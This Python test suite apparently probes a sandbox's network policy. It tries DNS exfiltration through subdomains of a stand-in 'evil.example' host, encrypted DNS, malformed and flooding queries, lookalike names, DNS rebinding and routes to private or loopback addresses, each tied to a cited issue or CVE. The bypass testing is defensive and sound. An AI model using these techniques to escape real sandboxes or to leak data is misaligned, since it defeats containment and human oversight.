"""Attempts by names: questions of DNS, and names that look like allowed ones."""
import socket, struct, time

from attempts import (SEEN_ADDRESS, SEEN_BELOW, SEEN_HTTP, SEEN_TLS, address_of, ask, attempt, hello, http, listening,
                      question, quietly, send, tcp)


# Controls.
@attempt(seen=SEEN_TLS, control=["bytes"])
def an_allowed_name_by_tls():
    hello([b"allowed.example"])


@attempt(seen=SEEN_HTTP, control=["bytes"])
def an_allowed_name_by_http():
    http("GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")


@attempt(seen=SEEN_BELOW, control=["bytes"])
def a_name_below_a_pattern():
    send("www.wild.example", 80, b"GET / HTTP/1.1\r\nHost: www.wild.example\r\n\r\n")


@attempt(seen=SEEN_ADDRESS, control=["bytes"])
def an_allowed_address():
    tcp("203.0.113.15", 80)


# Names.
@attempt("NVIDIA/OpenShell#1498: regression coverage for proxy hostname parser differentials")
def a_nul_in_a_label():
    ask([b"evil", b"example\0", b"allowed", b"example"]), ask([b"evil.example\0.allowed", b"example"])


@attempt("RFC 9267: Common Implementation Anti-Patterns Related to DNS Resource Record Processing")
def a_dot_in_a_label():
    ask([b"evil", b"www.wild", b"example"]), ask([b"allowed.example"]), ask([b"secret.evil.example"])


@attempt("tinyproxy/tinyproxy#627: ACL hostname allow-list bypass via suffix over-match")
def names_that_only_look_alike():
    for name in ("evilallowed.example", "allowed.example.evil.example", "allowed.exampl", "allowed-example",
                 "allowed.example.wild.example.evil", "wild.example", "xwild.example", "allowed_example"):
        address_of(name)
        send(name, 80, b"GET / HTTP/1.0\r\n\r\n")


@attempt("NVIDIA/OpenShell#1169: DNS-based data exfiltration bypasses sandbox network policy")
def a_name_below_an_exact_one():
    address_of("secret.allowed.example"), ask([b"secret", b"allowed", b"example"], 16)


@attempt("NVIDIA/OpenShell#1498: regression coverage for proxy hostname parser differentials")
def odd_characters():
    for label in (b"a b", b"a/b", b"a@b", b"a%00b", b"a\nb", b"\xff\xfe", b"a*b", b"*", b"-a", b"a-"):
        ask([label, b"www", b"wild", b"example"])


@attempt("RFC 9267: Common Implementation Anti-Patterns Related to DNS Resource Record Processing")
def a_name_that_is_too_long():
    ask([b"a" * 63] * 4 + [b"www", b"wild", b"example"]), ask([b"a" * 63] * 20)


@attempt("benoitc/hackney#920: Reject IDNA dot-variant hosts that normalize to IP literals")
def other_scripts():
    address_of("bücher.example"), address_of("аllowed.example"), address_of("allowed。evil.example")


@attempt("UKGovernmentBEIS/inspect_k8s_sandbox#56: Prevent DNS exfiltration attacks")
def every_type_of_question():
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 64, 65, 251, 252, 255, 65535):
        ask([b"secret", b"evil", b"example"], kind), ask([b"allowed", b"example"], kind)


@attempt("vm0-ai/vm0#21263: prevent TCP DNS from bypassing the DNS proxy")
def questions_by_tcp():
    def talk(server):
        with socket.create_connection((server, 53), timeout=3) as s:
            for name in ([b"secret", b"evil", b"example"], [b"allowed", b"example"]):
                data = question(name)
                s.sendall(struct.pack(">H", len(data)) + data)
                s.recv(512)

    for server in ("203.0.113.53", "8.8.8.8", "127.0.0.1"):
        quietly(lambda: talk(server))


@attempt("tinylabscom/mvm#3355: An allow-list admits raw UDP to port 53 on any public address")
def questions_to_other_servers():
    for server in ("203.0.113.53", "203.0.113.10", "8.8.8.8", "127.0.0.53", "198.18.0.1", "255.255.255.255"):
        ask([b"secret", b"evil", b"example"], server=server)


@attempt("RFC 9619: In the DNS, QDCOUNT Is (Usually) One")
def several_questions_in_one_message():
    data = question([b"allowed", b"example"])
    more = data[:4] + struct.pack(">H", 2) + data[6:] + b"\6secret\4evil\7example\0\0\1\0\1"
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.sendto(more, ("203.0.113.53", 53))
        time.sleep(0.3)


@attempt("RFC 9267: Common Implementation Anti-Patterns Related to DNS Resource Record Processing")
def malformed_questions():
    good = question([b"secret", b"evil", b"example"])
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        loop = good[:12] + b"\xc0\x0c\0\1\0\1"
        for data in (b"", b"\0", good[:11], good[:20], good[:12] + b"\x3f" + good[13:], loop,
                     good[:2] + b"\x28\0" + good[4:], good[:2] + b"\x81\x80" + good[4:], good + bytes(3000)):
            quietly(lambda: s.sendto(data, ("203.0.113.53", 53)))
        time.sleep(0.3)


@attempt("coder/httpjail#53: Watch out for DNS exfiltration attacks (CVE-2025-55284)")
def a_flood_of_questions():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        for number in range(3000):
            quietly(lambda: s.sendto(question([b"x%d" % number, b"evil", b"example"]), ("203.0.113.53", 53)))
        time.sleep(0.5)


@attempt("UKGovernmentBEIS/inspect_k8s_sandbox#56: Prevent DNS exfiltration attacks")
def reverse_questions():
    ask([b"11", b"113", b"0", b"203", b"in-addr", b"arpa"], 12), ask([b"secret", b"in-addr", b"arpa"], 12)


@attempt("mcdonc/klangk#2248: unbounded rule growth by repeated resolutions", seen=SEEN_BELOW)
def exhausted_names():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.settimeout(0.01)
        for number in range(20000):
            quietly(lambda: s.sendto(question([b"n%d" % number, b"wild", b"example"]), ("203.0.113.53", 53)))
            if number % 50 == 0:
                quietly(lambda: s.recv(512))
    send("other.example", 80, b"GET / HTTP/1.0\r\n\r\n")


@attempt("CVE-2022-24825: Smokescreen: SSRF via deny list bypass (GHSA-gcj7-j438-hjj2)")
def other_forms_of_a_name():
    for name in ("other.example.", "OTHER.example", "other.EXAMPLE..", "[other.example]", "other.example:80"):
        address_of(name), send(name, 80, b"GET / HTTP/1.0\r\n\r\n")


@attempt("rappdw/sandy#154: permissive mode allows DoH over TCP/443, bypassing the DNS policy")
def encrypted_questions():
    for server in ("8.8.8.8", "1.1.1.1", "203.0.113.53"):
        for port in (443, 784, 853, 8853):
            tcp(server, port, question([b"secret", b"evil", b"example"]))


# Names whose owners have them lead elsewhere.
def lead(*names):
    for name in names:
        send(name, 80, f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())


def led(*names):
    """Flags that allow these names, and the questions about them."""
    flags = [word for name in names for word in ("--connect", f"{name}:80")]
    return {"flags": flags, "seen": [f"question {name}" for name in names]}


@attempt("denoland/deno#21227: Deno should block access to local network unless explicitly permitted",
         **led("private.example", "metadata.example", "loop.example"))
def names_that_lead_to_private_addresses():
    lead("private.example", "metadata.example", "loop.example")


@attempt("chromestatus 5106143060033536: block access to IP address 0.0.0.0", **led("zero.example"))
def a_name_that_leads_to_no_address():
    lead("zero.example")


@attempt("Doezer/Questarr#385: only the first resolved IP address is checked", **led("many.example"))
def a_name_with_many_private_addresses():
    lead("many.example")


@attempt("stevencheist/HamTabv1#8: SSRF guard vulnerable to DNS rebinding", **led("alias.example"))
def an_alias_of_a_private_name():
    lead("alias.example")


@attempt("miniflux/v2#4092: SSRF TOCTOU/DNS-rebinding in private network check", control=["bytes"],
         flags=["--connect", "rebinding.example:80"],
         seen=["question rebinding.example", "connection 203.0.113.13 80", "bytes 203.0.113.13 80"])
def a_name_that_leads_elsewhere_later():
    for _ in range(4):
        lead("rebinding.example")
        time.sleep(1.2)


@attempt("nltk/nltk#3644: IPv6 transition-embedded internal IPv4 in SSRF filter (NAT64 bypass)",
         **led("translated.example"))
def a_name_that_leads_through_a_translator():
    lead("translated.example")


@attempt("stacklok/toolhive#6249: Extend private-IP guard to 6to4/Teredo addresses", **led("tunnelled.example"))
def a_name_that_leads_through_a_tunnel():
    lead("tunnelled.example")


@attempt("microsoft/semantic-kernel#14267: block Azure WireServer in server URL validation", **led("azure.example"))
def a_name_that_leads_to_the_cloud():
    lead("azure.example")


@attempt("kubernetes/kubernetes#92315: CVE-2020-8558: bypass of the localhost boundary", **led("own.example"))
def a_name_that_leads_to_this_machine():
    lead("own.example")


@attempt("kubernetes/kubernetes#92315: CVE-2020-8558: bypass of the localhost boundary",
         flags=["--connect", "0.0.0.0/0:80", "--connect", "[::]/0:80", "--connect", "loop.example:80"],
         seen=["question loop.example"])
def loopback_through_a_wide_range():
    lead("loop.example")
    for port in listening():
        for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0"):
            tcp(address, port)
        tcp("::1", port, family=socket.AF_INET6), tcp("::ffff:127.0.0.1", port, family=socket.AF_INET6)
